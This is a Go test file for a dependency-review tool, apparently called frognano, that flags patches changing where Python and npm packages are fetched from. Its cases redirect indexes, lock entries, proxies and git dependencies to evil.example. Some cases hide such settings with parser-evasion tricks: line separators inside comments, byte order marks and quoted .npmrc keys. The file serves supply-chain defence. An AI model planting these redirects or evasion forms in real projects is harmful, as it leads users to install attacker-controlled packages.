package deps

import (
	"context"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/frognano/frognano/check/patch"
	"github.com/frognano/frognano/internal/gittest"
)

// TestPythonToolSources: what PDM and uv read of where packages come from, in pyproject.toml and
// in their own files, and where a Python lock file says a locked package comes from, is listed
// like pip's indexes: a new index is a setting (a finding), a locked package fetched from another
// index, a URL or a path is a change of source, and a file of source settings frognano does not
// read is unread, whole. Before, PDM's tables, uv.toml, pdm.toml, poetry.toml, .npmrc, pdm.lock
// and pylock.toml were not read at all, [tool.uv]'s overrides, constraints, index-strategy and
// [tool.uv.pip] were skipped, and a uv.lock or poetry.lock entry moved to another index, a URL or
// a path with the same version read as unchanged.
func TestPythonToolSources(t *testing.T) {
	t.Parallel()
	runConstructs(t, []construct{
		{
			name: "PyprojectPDM", path: "pyproject.toml",
			base: "[project]\nname = \"a\"\nversion = \"1\"\n",
			patched: "[project]\nname = \"a\"\nversion = \"1\"\n" +
				"[[tool.pdm.source]]\nname = \"private\"\nurl = \"https://pdm.example/simple\"\nverify_ssl = false\n" +
				"[tool.pdm.dev-dependencies]\ntest = [\"pytest==8.0.0\"]\n" +
				"[tool.pdm.resolution.overrides]\nurllib3 = \"1.26.4\"\nrequests = \"https://files.example/requests-2.0.tar.gz\"\n",
			want: "pyproject.toml PyPI pytest added ->8.0.0\n" +
				"pyproject.toml PyPI requests(override) added ->(no version) <url https://files.example/requests-2.0.tar.gz>\n" +
				"pyproject.toml PyPI urllib3(override) added ->1.26.4\n" +
				"pyproject.toml setting added tool.pdm.source https://pdm.example/simple [index]\n" +
				"pyproject.toml setting added tool.pdm.source verify_ssl false [index]\n",
			newSource: "requests",
		},
		{
			name: "PyprojectUVMore", path: "pyproject.toml",
			base: "[project]\nname = \"a\"\nversion = \"1\"\n",
			patched: "[project]\nname = \"a\"\nversion = \"1\"\n[tool.uv]\noverride-dependencies = [\"idna @ git+https://git.example/idna\"]\n" +
				"constraint-dependencies = [\"certifi<2024\"]\nindex-strategy = \"unsafe-best-match\"\n" +
				"[tool.uv.pip]\nindex-url = \"https://uvpip.example/simple\"\n",
			want: "pyproject.toml PyPI certifi(constraint) added -><2024\n" +
				"pyproject.toml PyPI idna(override) added ->(no version) <vcs git+https://git.example/idna>\n" +
				"pyproject.toml setting added tool.uv.index-strategy unsafe-best-match [index]\n" +
				"pyproject.toml setting added tool.uv.pip.index-url https://uvpip.example/simple [index]\n",
			newSource: "idna",
		},
		{
			name: "UVToml", path: "uv.toml",
			base: "native-tls = true\n",
			patched: "index-url = \"https://user:pw@uv.example/simple\"\n[[index]]\nname = \"x\"\nurl = \"https://idx.example/simple\"\n" +
				"[sources]\nflask = { path = \"../flask\" }\n",
			want: "uv.toml PyPI flask(override) added ->(no version) <path ../flask outside>\n" +
				"uv.toml setting added uv.toml.index-url https://[REDACTED]@uv.example/simple [index]\n" +
				"uv.toml setting added uv.toml.index https://idx.example/simple [index]\n",
			newSource: "flask",
		},
		{
			name: "UVLockEntryFromAnotherIndex", path: "uv.lock",
			base: "version = 1\n[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n" +
				"[[package]]\nname = \"idna\"\nversion = \"3.4\"\nsource = { registry = \"https://pypi.org/simple\" }\n",
			patched: "version = 1\n[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\nsource = { registry = \"https://evil.example/simple\" }\n" +
				"[[package]]\nname = \"idna\"\nversion = \"3.4\"\nsource = { url = \"https://files.example/idna-3.4.tar.gz\" }\n",
			want: "uv.lock PyPI attrs changed 23.1.0->23.1.0 <registry https://evil.example/simple>\n" +
				"uv.lock PyPI idna changed 3.4->3.4 <url https://files.example/idna-3.4.tar.gz>\n",
			newSource: "attrs idna",
		},
		{
			name: "PoetryLockEntryFromALegacyIndex", path: "poetry.lock",
			base: "[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\n",
			patched: "[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\n[package.source]\ntype = \"legacy\"\n" +
				"url = \"https://evil.example/simple\"\nreference = \"evil\"\n",
			want:      "poetry.lock PyPI attrs changed 23.1.0->23.1.0 <registry https://evil.example/simple>\n",
			newSource: "attrs",
		},
		{
			name: "PDMLock", path: "pdm.lock",
			base: "[metadata]\nlock_version = \"4.4\"\n[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\n[[package]]\nname = \"idna\"\nversion = \"3.4\"\n",
			patched: "[metadata]\nlock_version = \"4.4\"\n[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\ngit = \"https://git.example/attrs\"\n" +
				"revision = \"0123456789abcdef0123456789abcdef01234567\"\n[[package]]\nname = \"idna\"\nversion = \"3.5\"\n",
			want: "pdm.lock PyPI attrs changed 23.1.0->23.1.0 <vcs (commit 0123456789abcdef0123456789abcdef01234567)>\n" +
				"pdm.lock PyPI idna changed 3.4->3.5\n",
			newSource: "attrs",
		},
		{
			name: "PyLock", path: "pylock.toml",
			base:      "lock-version = \"1.0\"\ncreated-by = \"x\"\n[[packages]]\nname = \"attrs\"\nversion = \"23.1.0\"\nindex = \"https://pypi.org/simple\"\n",
			patched:   "lock-version = \"1.0\"\ncreated-by = \"x\"\n[[packages]]\nname = \"attrs\"\nversion = \"23.1.0\"\nindex = \"https://evil.example/simple\"\n",
			want:      "pylock.toml PyPI attrs changed 23.1.0->23.1.0 <registry https://evil.example/simple>\n",
			newSource: "attrs",
		},
		{
			name: "PDMToml", path: "pdm.toml",
			patched: "[pypi]\nurl = \"https://pdm.example/simple\"\nverify_ssl = false\n[pypi.extra]\nurl = \"https://extra.example/simple\"\n",
			want: "pdm.toml setting added pypi.extra.url https://extra.example/simple [index]\n" +
				"pdm.toml setting added pypi.url https://pdm.example/simple [index]\n" +
				"pdm.toml setting added pypi.verify_ssl false [index]\n",
		},
		{
			name: "PoetryToml", path: "poetry.toml",
			patched: "[repositories.private]\nurl = \"https://poetry.example/simple\"\n",
			want:    "poetry.toml setting added repositories.private.url https://poetry.example/simple [index]\n",
		},
		{
			name: "Npmrc", path: ".npmrc",
			base:    "save-exact=true\n",
			patched: "registry=https://npm.example/\n@acme:registry=https://acme.example/npm/\n//npm.example/:_authToken=npm_SECRET\nstrict-ssl=false\n",
			want: ".npmrc setting added registry https://npm.example/ [index]\n" +
				".npmrc setting added @acme:registry https://acme.example/npm/ [index]\n" +
				".npmrc setting added strict-ssl false [index]\n",
		},
		{
			// npm reads each from a project's .npmrc (npm config get, npm 10.8): a proxy every
			// download goes through, a certificate authority it trusts, the git program it runs
			// for git dependencies, and whether a lock file's registry host is replaced.
			// None was listed before.
			name: "NpmrcProxyCertificateAndGit", path: ".npmrc",
			base: "save-exact=true\n",
			patched: "https-proxy=http://evil.example:8080/\nproxy = http://evil.example:8080/\nca=\"-----BEGIN CERTIFICATE-----\\nMIIB\"\n" +
				"cafile=./evil.pem\ngit=./evilgit\nreplace-registry-host=never\n",
			want: ".npmrc setting added https-proxy http://evil.example:8080/ [index]\n" +
				".npmrc setting added proxy http://evil.example:8080/ [index]\n" +
				".npmrc setting added ca -----BEGIN CERTIFICATE-----\nMIIB [index]\n" +
				".npmrc setting added cafile ./evil.pem [index]\n" +
				".npmrc setting added git ./evilgit [index]\n" +
				".npmrc setting added replace-registry-host never [index]\n",
		},
		{
			// Hatch installs an environment's dependencies and extra-dependencies, a build
			// hook's dependencies and env.requires' plugins, with the pip or uv index its
			// env-vars name. None was listed before.
			name: "PyprojectHatch", path: "pyproject.toml",
			base: "[project]\nname = \"a\"\nversion = \"1\"\n[tool.hatch.envs.default]\ndependencies = [\"pytest==8.0.0\"]\n",
			patched: "[project]\nname = \"a\"\nversion = \"1\"\n[tool.hatch.envs.default]\ndependencies = [\"pytest==7.0.0\"]\n" +
				"[tool.hatch.envs.lint]\nextra-dependencies = [\"evil @ git+https://evil.example/e.git\"]\n" +
				"[tool.hatch.envs.lint.env-vars]\nPIP_EXTRA_INDEX_URL = \"https://evil.example/simple\"\nUV_INDEX_URL = \"https://evil.example/uv\"\nFOO = \"1\"\n" +
				"[tool.hatch.envs.lint.overrides]\nmatrix.v.dependencies = [\"x\"]\n" +
				"[tool.hatch.env]\nrequires = [\"hatch-evil==1.0\"]\n" +
				"[tool.hatch.build.hooks.custom]\ndependencies = [\"hook==2.0\"]\n",
			want: "pyproject.toml PyPI evil added ->(no version) <vcs git+https://evil.example/e.git>\n" +
				"pyproject.toml PyPI hatch-evil(build) added ->1.0\n" +
				"pyproject.toml PyPI hook(build) added ->2.0\n" +
				"pyproject.toml PyPI pytest changed 8.0.0->7.0.0\n" +
				"pyproject.toml setting added tool.hatch.envs.lint.env-vars.PIP_EXTRA_INDEX_URL https://evil.example/simple [index]\n" +
				"pyproject.toml setting added tool.hatch.envs.lint.env-vars.UV_INDEX_URL https://evil.example/uv [index]\n" +
				"pyproject.toml unread 0 [tool.hatch.envs.lint.overrides]: Hatch's overrides can add dependencies, which frognano does not read\n",
			newSource: "evil",
		},
		{
			name: "HatchToml", path: "hatch.toml",
			patched: "[envs.default]\ndependencies = [\"evil==1.0\"]\n[envs.default.env-vars]\nPIP_INDEX_URL = \"https://evil.example/simple\"\n",
			want: "hatch.toml PyPI evil added ->1.0\n" +
				"hatch.toml setting added hatch.toml.envs.default.env-vars.PIP_INDEX_URL https://evil.example/simple [index]\n",
		},
		{
			// pixi installs [tool.pixi]'s PyPI and conda dependencies, from its channels:
			// frognano does not read them, and says so (passed over before).
			name: "PyprojectPixiUnread", path: "pyproject.toml",
			base:    "[project]\nname = \"a\"\nversion = \"1\"\n",
			patched: "[project]\nname = \"a\"\nversion = \"1\"\n[tool.pixi.pypi-dependencies]\nevil = {git = \"https://evil.example/e.git\"}\n",
			want:    "pyproject.toml unread 0 [tool.pixi]: it holds pixi's dependencies and channels, which frognano does not read\n",
		},
		{
			name: "YarnrcUnread", path: ".yarnrc.yml",
			patched: "npmRegistryServer: \"https://yarn.example\"\n",
			want:    ".yarnrc.yml unread 0 : it holds yarn's settings (npmRegistryServer, scoped registries, unsafeHttpWhitelist), which frognano does not read\n",
		},
		{
			name: "CargoConfigUnread", path: "tools/.cargo/config.toml",
			patched: "[source.crates-io]\nreplace-with = \"evil\"\n",
			want:    "tools/.cargo/config.toml unread 0 : it holds Cargo's settings ([source] replacements, [registries], [patch]), which frognano does not read\n",
		},
		{
			name: "GoWorkUnread", path: "go.work",
			patched: "go 1.22\nreplace example.com/x => ../evil\n",
			want:    "go.work unread 0 : it holds Go's workspace (use and replace directives), which frognano does not read\n",
		},
	})
}

// TestListReadsSourceSettings: through List, a patch that points PDM, uv and npm elsewhere has
// each new place listed as a setting (a finding), and the files of source settings frognano does
// not read listed as unread; a .npmrc credential is never kept.
func TestListReadsSourceSettings(t *testing.T) {
	t.Parallel()
	dir, base := gittest.Repo(t, map[string]string{
		"pyproject.toml": "[project]\nname = \"a\"\nversion = \"1\"\n",
		"README.md":      "hello\n",
	})
	diff := diffOf(t, dir, base, func() {
		gittest.Write(t, dir, map[string]string{
			"pyproject.toml": "[project]\nname = \"a\"\nversion = \"1\"\n[[tool.pdm.source]]\nname = \"p\"\nurl = \"https://pdm.example/simple\"\n",
			"uv.toml":        "extra-index-url = [\"https://uv.example/simple\"]\n",
			"web/.npmrc":     "registry=https://npm.example/\n//npm.example/:_authToken=npm_TOKENVALUE\n",
			"web/.yarnrc":    "registry \"https://yarn.example/\"\n",
		})
	})
	rep, err := List(context.Background(), patch.HostGit(dir), base, diff)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, s := range rep.Settings {
		got = append(got, s.File+" "+s.Name+" "+s.Value)
	}
	want := []string{"pyproject.toml tool.pdm.source https://pdm.example/simple", "uv.toml uv.toml.extra-index-url https://uv.example/simple",
		"web/.npmrc registry https://npm.example/"}
	if !slices.Equal(got, want) {
		t.Errorf("settings %q, want %q", got, want)
	}
	if got, want := unreadOf(rep), "web/.yarnrc: it holds yarn 1's settings (registry, scoped registries), which frognano does not read\n"; got != want {
		t.Errorf("unread\n%swant\n%s", got, want)
	}
	if strings.Contains(fmt.Sprintf("%+v", rep), "TOKENVALUE") {
		t.Error("the report holds the .npmrc's credential")
	}
}

// TestRequirementsDecodedLikePip: a requirements file with a byte order mark is read as pip
// reads it (UTF-8 with a BOM, UTF-16 and UTF-32 in either byte order): its new index is a
// setting and its packages are listed. Before, the UTF-8 BOM hid the first line's
// --extra-index-url as "not a requirement pip reads", and a UTF-16 file was all unread, while
// pip installs from that index.
func TestRequirementsDecodedLikePip(t *testing.T) {
	t.Parallel()
	text := "--extra-index-url https://evil.example/simple\r\nrequests==2.31.0\r\n"
	encode := func(bom []byte, width int, order binary.AppendByteOrder) string {
		b := append([]byte{}, bom...)
		for _, r := range text {
			if width == 2 {
				b = order.AppendUint16(b, uint16(r))
			} else {
				b = order.AppendUint32(b, uint32(r))
			}
		}
		return string(b)
	}
	want := "requirements.txt PyPI requests added ->2.31.0\n" +
		"requirements.txt setting added --extra-index-url https://evil.example/simple [index]\n"
	var cases []construct
	for name, content := range map[string]string{
		"UTF8BOM":   "\xef\xbb\xbf" + text,
		"UTF16LE":   encode([]byte{0xff, 0xfe}, 2, binary.LittleEndian),
		"UTF16BE":   encode([]byte{0xfe, 0xff}, 2, binary.BigEndian),
		"UTF32LE":   encode([]byte{0xff, 0xfe, 0, 0}, 4, binary.LittleEndian),
		"UTF32BE":   encode([]byte{0, 0, 0xfe, 0xff}, 4, binary.BigEndian),
		"PlainCRLF": text,
	} {
		cases = append(cases, construct{name: name, path: "requirements.txt", patched: content, want: want})
	}
	runConstructs(t, cases)
}

// TestRequirementsSplitLikePip: a requirements file is split into lines as pip splits it, by
// Python's str.splitlines(), which ends a line at \r, \v, \f, \x1c, \x1d, \x1e, U+0085, U+2028
// and U+2029 as well as \n, so an --extra-index-url after such a separator, behind a comment
// on the line before, is a new index, and a package after one behind a comment is added; each
// is listed at the line git shows it on. A comment after Python's other whitespace (U+00A0) is
// dropped as pip drops it, and \x1f is stripped as str.strip() strips it. A file pip's -r
// includes is split the same way (Included, through List). Before, pipLines
// split at \n alone, so both hid inside a comment: no setting, no change, nothing unread,
// while pip installs evilpkg from evil.example (the adversarial review's
// TestReview2PipSplitlinesSeparators).
func TestRequirementsSplitLikePip(t *testing.T) {
	t.Parallel()
	var cases []construct
	for name, sep := range map[string]string{
		"CR": "\r", "VT": "\v", "FF": "\f", "FS": "\x1c", "GS": "\x1d", "RS": "\x1e",
		"NEL": "\u0085", "LS": "\u2028", "PS": "\u2029",
	} {
		cases = append(cases, construct{
			name: name, path: "requirements.txt",
			base: "requests==2.31.0\n",
			patched: "requests==2.31.0 # pinned" + sep + "--extra-index-url https://evil.example/simple\n" +
				"# x" + sep + "evilpkg==6.6.6\n",
			want: "requirements.txt PyPI evilpkg added ->6.6.6\n" +
				"requirements.txt setting added --extra-index-url https://evil.example/simple [index]\n",
		})
	}
	cases = append(cases, construct{
		name: "PythonWhitespace", path: "requirements.txt",
		base:    "requests==2.31.0\n",
		patched: "requests==2.31.0\u00a0# pinned, not a requirement\n\x1f--extra-index-url https://evil.example/simple\x1f\n",
		want:    "requirements.txt setting added --extra-index-url https://evil.example/simple [index]\n",
	}, construct{
		name: "LineNumbersAsGitShowsThem", path: "requirements.txt",
		patched: "six==1.16.0\r\n# x\ffoo==${V}\n\fbar==${V}\r\n",
		want: "requirements.txt PyPI six added ->1.16.0\n" +
			"requirements.txt unread 2 foo==${V}: it uses an environment variable, which pip expands when it runs\n" +
			"requirements.txt unread 3 bar==${V}: it uses an environment variable, which pip expands when it runs\n",
	})
	runConstructs(t, cases)
	t.Run("Included", func(t *testing.T) {
		t.Parallel()
		rep := listOf(t, map[string]string{"requirements.txt": "-r more.in\n", "more.in": "requests==2.31.0\n"}, func(dir string) {
			gittest.Write(t, dir, map[string]string{"more.in": "requests==2.31.0 # pinned\r--extra-index-url https://evil.example/simple\n"})
		})
		if got, want := settingsOf(rep), "more.in added --extra-index-url https://evil.example/simple\n"; got != want {
			t.Errorf("settings\n%swant\n%s", got, want)
		}
	})
}

// TestNpmrcReadLikeIni: .npmrc is read as npm, pnpm and yarn 1 read it, through the ini module:
// a key or value is trimmed by JavaScript's trim() (a byte order mark too), unquoted ('...'
// stripped, "..." JSON-decoded, so \u escapes count), or cut at its first unescaped ";" or
// "#"; "key[]" is the key; a line ends at a lone \r. Each form of a new registry checked with
// `npm config get registry` (npm 10.8, ini 4.1.3) is a setting. A key frognano cannot read (an
// environment variable npm expands in it, JSON that is not a string) is unread when its value
// is a URL, and nothing when it is not; a quoted credential is kept nowhere; a line ini skips
// (a value holding U+2028) and a double-quoted key that is not JSON (npm keeps its quotes) set
// nothing. Before, the key was compared as written, so each quoted, escaped, array or
// commented key, the key after a BOM and the line after a lone \r set npm's registry with no
// setting and nothing unread (the adversarial review's TestReview2NpmrcQuotedKey); a value kept
// its " ;comment", and a line ini skips was a setting.
func TestNpmrcReadLikeIni(t *testing.T) {
	t.Parallel()
	const evil = "https://evil.example/npm/"
	registry := ".npmrc setting added registry " + evil + " [index]\n"
	var cases []construct
	for name, line := range map[string]string{
		"DoubleQuotedKey":     `"registry" = ` + evil,
		"JSONEscapeKey":       `"regi\u0073try"=` + evil,
		"SingleQuotedJSONKey": `'"registry"'=` + evil,
		"ArrayKey":            `registry[]=` + evil,
		"QuotedArrayKey":      `"registry[]"=` + evil,
		"HashInKey":           `registry#mirror=` + evil,
		"SemicolonInKey":      `registry;mirror=` + evil,
		"ByteOrderMark":       "\ufeffregistry=" + evil,
		"LoneCR":              "# the registry\rregistry=" + evil,
		"QuotedValue":         `registry="` + evil + `"`,
		"ValueComment":        "registry=" + evil + " ;mirror",
	} {
		cases = append(cases, construct{name: name, path: ".npmrc", base: "save-exact=true\n", patched: line + "\n", want: registry})
	}
	cases = append(cases, construct{
		name: "SingleQuotedScope", path: ".npmrc",
		patched: `'@acme:registry'=` + evil + "\n",
		want:    ".npmrc setting added @acme:registry " + evil + " [index]\n",
	}, construct{
		name: "UnreadableKeys", path: ".npmrc",
		patched: "${NPM_REG}registry=https://u:pw@evil.example/npm/\n'[\"registry\"]'=" + evil + "\n${X}registry=false\n" +
			"\"//npm.example/:_authToken\"=npm_SECRETVALUE\n",
		want: ".npmrc unread 1 ${NPM_REG}registry = https://[REDACTED]@evil.example/npm/: npm reads a key frognano cannot (an environment variable, or JSON that is not a string); its value is a URL\n" +
			".npmrc unread 2 '[\"registry\"]' = " + evil + ": npm reads a key frognano cannot (an environment variable, or JSON that is not a string); its value is a URL\n",
	}, construct{
		name: "WhatIniSkips", path: ".npmrc",
		patched: "registry=" + evil + "\u2028\n\"regi\\x73try\"=" + evil + "\n[registry]\n",
		want:    "",
	})
	runConstructs(t, cases)
}

// TestListUnreadsTheDependencyFilesItDoesNotParse: a Pipfile (its [[source]] indexes and
// packages), yarn's, pnpm's and bun's lock files (each package's version and tarball URL) and
// pip.ini (pip.conf's name on Windows) say what is installed and from where, and frognano
// parses none of them: a patch that changes one has it listed as unread, whole. Each was
// passed over in silence before.
func TestListUnreadsTheDependencyFilesItDoesNotParse(t *testing.T) {
	t.Parallel()
	for p, body := range map[string]string{
		"Pipfile":            "[[source]]\nurl = \"https://evil.example/simple\"\nname = \"e\"\nverify_ssl = false\n[packages]\nevil = \"*\"\n",
		"web/yarn.lock":      "evil@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://evil.example/evil-1.0.0.tgz\"\n",
		"pnpm-lock.yaml":     "lockfileVersion: '9.0'\npackages:\n  evil@1.0.0:\n    resolution: {tarball: https://evil.example/e.tgz}\n",
		"app/bun.lock":       "{\"lockfileVersion\": 1, \"packages\": {\"evil\": [\"evil@1.0.0\", \"https://evil.example/e.tgz\"]}}\n",
		"app/bun.lockb":      "#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x00\x01evil\x00",
		"ci/pip.ini":         "[global]\nindex-url = https://evil.example/simple\n",
		"pixi.toml":          "[pypi-dependencies]\nevil = { git = \"https://evil.example/e.git\" }\n",
		"npm-shrinkwrap.txt": "", // not a dependency file: nothing is said of it
	} {
		t.Run(strings.ReplaceAll(p, "/", "_"), func(t *testing.T) {
			t.Parallel()
			rep := listOf(t, map[string]string{"README.md": "x\n"}, func(dir string) {
				gittest.Write(t, dir, map[string]string{p: body + "\n"})
			})
			got := unreadOf(rep)
			if body == "" {
				if got != "" || len(rep.Files) != 0 {
					t.Errorf("unread %q, files %q: want nothing", got, rep.Files)
				}
				return
			}
			if !strings.HasPrefix(got, p+": it holds ") || !strings.HasSuffix(got, ", which frognano does not read\n") || strings.Count(got, "\n") != 1 {
				t.Errorf("unread %q: want %s unread, whole", got, p)
			}
			if !slices.Equal(rep.Files, []string{p}) {
				t.Errorf("files %q, want %q", rep.Files, p)
			}
		})
	}
}
